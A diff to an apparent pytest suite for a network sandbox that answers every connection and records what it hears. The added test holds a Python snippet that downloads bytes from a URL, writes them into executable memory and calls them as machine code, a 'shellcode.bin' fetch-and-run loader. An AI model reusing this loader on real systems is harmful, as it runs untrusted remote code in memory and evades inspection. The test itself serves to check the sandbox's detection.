@@ -1,8 +1,10 @@
 """Every protocol, port and address answers, and what was said is recorded."""
 
 import json
+import platform
 import socket
 import ssl
+import sys
 import time
 
 import pytest
@@ -159,6 +161,23 @@ def test_a_shell_that_hides_behind_a_services_port_is_tempted(net: Net, said: by
 def test_a_client_of_a_service_is_not_tempted(net: Net) -> None:
     got = net.tcp("203.0.113.49", 21, b"USER thing\r\nPASS not found\r\n", shut=False, wait=2.5)
     assert got == b"331 Password required\r\n230 Logged in\r\n"
+
+
+RUN_IN_MEMORY = """
+import ctypes, mmap, sys, urllib.request
+code = urllib.request.urlopen(sys.argv[1], timeout=9).read()
+page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+page.write(code)
+print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())
+"""
+
+
+@pytest.mark.skipif(platform.machine() != "x86_64", reason="the code is of x86-64")
+def test_machine_code_that_is_fetched_into_memory_and_called_shows_that_it_ran(net: Net) -> None:
+    done = net.run(sys.executable, "-c", RUN_IN_MEMORY, "http://203.0.113.51/shellcode.bin")
+    assert done.stdout == "0\n", done.stderr
+    token = net.heard(lambda s: s.address == "203.0.113.51").token
+    assert net.heard(lambda s: s.ran == token)
 
 
 def test_who_joins_a_channel_is_told_what_to_do_there(net: Net) -> None:
